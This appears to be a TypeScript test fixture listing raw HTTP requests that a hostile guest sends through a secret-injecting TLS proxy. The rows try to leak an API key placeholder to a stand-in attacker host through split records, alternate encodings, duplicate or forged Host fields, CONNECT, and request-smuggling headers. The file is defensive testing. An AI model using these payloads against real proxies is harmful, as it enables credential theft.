/** What a hostile guest says to servers inside of TLS, as data. `KEY` is the placeholder, `HOST` the row's own host. */
export interface AttackRow {
  readonly name: string;
  /** `right`: one that may have the value. */
  readonly to: "right" | "wrong";
  /** Each is a TLS record of its own. */
  readonly parts: readonly (string | Buffer)[];
  /** What the server has heard in the end. */
  readonly hears: "value" | "placeholder" | "neither";
  /** The form that the event about it names. */
  readonly form?: string;
  /** Why the log says that it was refused. */
  readonly reason?: string;
}

export const placeholder = "$MSB_API_KEY";

const head = (line: string, ...fields: readonly string[]): string =>
  `${[line, ...fields].join("\r\n")}\r\n\r\n`;
const get = (...fields: readonly string[]): string => head("GET / HTTP/1.1", "Host: HOST", ...fields);
const post = (body: string, ...fields: readonly string[]): string =>
  head("POST / HTTP/1.1", "Host: HOST", `Content-Length: ${body.length}`, ...fields) + body;
const bearer = `Authorization: Bearer ${placeholder}`;
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const bytewise = (text: string): Buffer[] => Array.from(Buffer.from(text), (byte) => Buffer.from([byte]));
const utf16 = Buffer.from(`{"k":"${placeholder}"}`, "utf16le");
const hidden = head("GET /hidden HTTP/1.1", "Host: a.example.com", bearer);

export const attackRows: readonly AttackRow[] = [
  // What is meant to be.
  { name: "header", to: "right", parts: [get(bearer)], hears: "value" },
  {
    name: "absolute-equal",
    to: "right",
    parts: [head("GET https://HOST/ HTTP/1.1", "Host: HOST", bearer)],
    hears: "value",
  },
  {
    name: "split-record",
    to: "right",
    parts: ["GET / HTTP/1.1\r\nHost: HOST\r\nAuthorization: Bearer $MSB_A", "PI_KEY\r\n\r\n"],
    hears: "value",
  },
  {
    name: "bytewise",
    to: "right",
    parts: ["GET / HTTP/1.1\r\nHost: HOST\r\n", ...bytewise(`${bearer}\r\n\r\n`)],
    hears: "value",
  },
  {
    name: "upper-case",
    to: "right",
    parts: [head("GET / HTTP/1.1", "hOsT: UPPER:PORT", bearer)],
    hears: "value",
  },
  {
    name: "basic",
    to: "right",
    parts: [get(`Authorization: Basic ${base64(`user:${placeholder}`)}`)],
    hears: "value",
  },

  // Places where nothing is put in.
  {
    name: "path",
    to: "right",
    parts: [head(`GET /${placeholder} HTTP/1.1`, "Host: HOST")],
    hears: "placeholder",
  },
  {
    name: "query",
    to: "right",
    parts: [head(`GET /?k=${placeholder} HTTP/1.1`, "Host: HOST")],
    hears: "placeholder",
  },
  { name: "body", to: "right", parts: [post(placeholder)], hears: "placeholder" },
  { name: "hidden-in-length", to: "right", parts: [post(hidden)], hears: "placeholder" },
  {
    name: "hidden-in-chunk",
    to: "right",
    parts: [
      head("POST / HTTP/1.1", "Host: HOST", "Transfer-Encoding: chunked"),
      `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`,
    ],
    hears: "placeholder",
  },

  // Every form to a host that may not have it.
  { name: "raw", to: "wrong", parts: [get(bearer)], hears: "neither", form: "raw" },
  {
    name: "raw-split",
    to: "wrong",
    parts: ["GET / HTTP/1.1\r\nHost: HOST\r\nX-Key: $MSB", "_API_KEY\r\n\r\n"],
    hears: "neither",
    form: "raw",
  },
  {
    name: "percent",
    to: "wrong",
    parts: [head("GET /?k=%24MSB%5fAPI_KEY HTTP/1.1", "Host: HOST")],
    hears: "neither",
    form: "percent",
  },
  {
    name: "in-path",
    to: "wrong",
    parts: [head(`GET /${placeholder} HTTP/1.1`, "Host: HOST")],
    hears: "neither",
    form: "raw",
  },
  {
    name: "json",
    to: "wrong",
    parts: [post(String.raw`{"k":"\u0024MSB_API_KEY"}`)],
    hears: "neither",
    form: "json",
  },
  {
    name: "base64",
    to: "wrong",
    parts: [get(`Authorization: Basic ${base64(`user:${placeholder}`)}`)],
    hears: "neither",
    form: "base64",
  },
  {
    name: "body-split",
    to: "wrong",
    parts: [post(`....${placeholder}`).slice(0, -5), placeholder.slice(-5)],
    hears: "neither",
    form: "raw",
  },
  {
    name: "chunk-split",
    to: "wrong",
    parts: [
      head("POST / HTTP/1.1", "Host: HOST", "Transfer-Encoding: chunked"),
      "5\r\n$MSB_\r\n",
      "7\r\nAPI_KEY\r\n0\r\n\r\n",
    ],
    hears: "neither",
    form: "raw",
  },
  {
    name: "trailer",
    to: "wrong",
    parts: [
      head("POST / HTTP/1.1", "Host: HOST", "Transfer-Encoding: chunked"),
      `0\r\nX-Key: ${placeholder}\r\n\r\n`,
    ],
    hears: "neither",
    form: "raw",
  },
  { name: "utf-16", to: "wrong", parts: [post(utf16.toString("latin1"))], hears: "neither", form: "utf-16" },
  {
    name: "utf-16-of-the-other-order",
    to: "wrong",
    parts: [post(Buffer.from(utf16).swap16().toString("latin1"))],
    hears: "neither",
    form: "utf-16",
  },
  {
    name: "no-http",
    to: "wrong",
    parts: [Buffer.from([0, 1, 2, 255, 254]), `hello ${placeholder}\n`],
    hears: "neither",
    form: "raw",
  },
  {
    name: "second-of-three",
    to: "wrong",
    parts: [get() + get(bearer) + get()],
    hears: "neither",
    form: "raw",
  },

  // One server is shown, another one is meant.
  {
    name: "other-host",
    to: "right",
    parts: [head("GET / HTTP/1.1", "Host: raw.attacker.test", bearer)],
    hears: "neither",
    reason: "a connection to other-host.example.com",
  },
  {
    name: "two-hosts",
    to: "right",
    parts: [head("GET / HTTP/1.1", "Host: HOST", "Host: raw.attacker.test", bearer)],
    hears: "neither",
    reason: "several Host fields",
  },
  {
    name: "no-host",
    to: "right",
    parts: [head("GET / HTTP/1.1", bearer)],
    hears: "neither",
    reason: "no Host field",
  },
  {
    name: "userinfo",
    to: "right",
    parts: [head("GET / HTTP/1.1", "Host: HOST@raw.attacker.test", bearer)],
    hears: "neither",
    reason: "a Host that is none",
  },
  {
    name: "absolute-other",
    to: "right",
    parts: [head("GET https://raw.attacker.test/ HTTP/1.1", "Host: HOST", bearer)],
    hears: "neither",
    reason: "several hosts at once",
  },
  {
    name: "connect",
    to: "right",
    parts: [head("CONNECT raw.attacker.test:443 HTTP/1.1", "Host: HOST", bearer)],
    hears: "neither",
    reason: "CONNECT to a server that is no proxy",
  },
  {
    name: "empty-line-first",
    to: "right",
    parts: ["\r\n", head("GET / HTTP/1.1", "Host: raw.attacker.test", bearer)],
    hears: "neither",
    reason: "a connection to empty-line-first.example.com",
  },
  {
    name: "http2-after-an-offer",
    to: "right",
    parts: [
      get("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"),
      `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${bearer}`,
    ],
    hears: "neither",
    reason: "a request line that is none",
  },
  {
    name: "connect-after-an-offer",
    to: "right",
    parts: [
      get("Connection: Upgrade", "Upgrade: TLS/1.3"),
      head("CONNECT raw.attacker.test:443 HTTP/1.1", "Host: raw.attacker.test:443", bearer),
    ],
    hears: "neither",
    reason: "CONNECT to a server that is no proxy",
  },
  {
    name: "text-of-http2",
    to: "right",
    parts: [head("GET / HTTP/2.0", "Host: HOST", bearer)],
    hears: "neither",
    reason: "a request line that is none",
  },

  // Where one request ends and the next begins.
  {
    name: "length-and-chunks",
    to: "right",
    parts: [post(`0\r\n\r\n${hidden}`, "Transfer-Encoding: chunked")],
    hears: "neither",
    reason: "both Content-Length and Transfer-Encoding",
  },
  {
    name: "two-lengths",
    to: "right",
    parts: [post(hidden, "Content-Length: 0", bearer)],
    hears: "neither",
    reason: "Content-Length twice",
  },
  {
    name: "encoded-twice",
    to: "right",
    parts: [head("POST / HTTP/1.1", "Host: HOST", "Transfer-Encoding: chunked, identity", bearer)],
    hears: "neither",
    reason: "Transfer-Encoding is not exactly `chunked`",
  },
  {
    name: "odd-encoding",
    to: "right",
    parts: [head("POST / HTTP/1.1", "Host: HOST", "Transfer-Encoding: xchunked", bearer)],
    hears: "neither",
    reason: "Transfer-Encoding is not exactly `chunked`",
  },
  {
    name: "encoding-with-tab",
    to: "right",
    parts: [head("POST / HTTP/1.1", "Host: HOST", "Transfer-Encoding:\vchunked", bearer)],
    hears: "neither",
    reason: "a line that is no field, in the request",
  },
  {
    name: "space-before-colon",
    to: "right",
    parts: [head("POST / HTTP/1.1", "Host: HOST", "Transfer-Encoding : chunked", bearer)],
    hears: "neither",
    reason: "a line that is no field, in the request",
  },
  {
    name: "folded",
    to: "right",
    parts: [head("GET / HTTP/1.1", "Host: HOST", "X-One: 1", ` ${placeholder}`)],
    hears: "neither",
    reason: "a line that is no field, in the request",
  },
  {
    name: "bare-newlines",
    to: "right",
    parts: [`GET / HTTP/1.1\nHost: HOST\n${bearer}\n\n\r\n\r\n`],
    hears: "neither",
    reason: "a line that does not end in CRLF",
  },
  {
    name: "signed-length",
    to: "right",
    parts: [head("POST / HTTP/1.1", "Host: HOST", "Content-Length: +0", bearer)],
    hears: "neither",
    reason: "Content-Length is no number",
  },
  {
    name: "odd-chunk-size",
    to: "right",
    parts: [
      head("POST / HTTP/1.1", "Host: HOST", "Transfer-Encoding: chunked"),
      `0x5\r\n${placeholder}\r\n0\r\n\r\n`,
    ],
    hears: "neither",
    reason: "the size of a chunk is none",
  },
];

/** Whom a row's client speaks to. A certificate of `*.example.com` and `*.attacker.test` is for both. */
export const hostOf = ({ name, to }: AttackRow): string =>
  `${name}.${to === "right" ? "example.com" : "attacker.test"}`;

/** The bytes of each part. */
export function partsOf(row: AttackRow, port: number): Buffer[] {
  const host = hostOf(row);
  return row.parts.map((part) =>
    typeof part === "string"
      ? Buffer.from(
          part.replaceAll("HOST", host).replaceAll("UPPER", host.toUpperCase()).replaceAll("PORT", `${port}`),
          "latin1",
        )
      : part,
  );
}
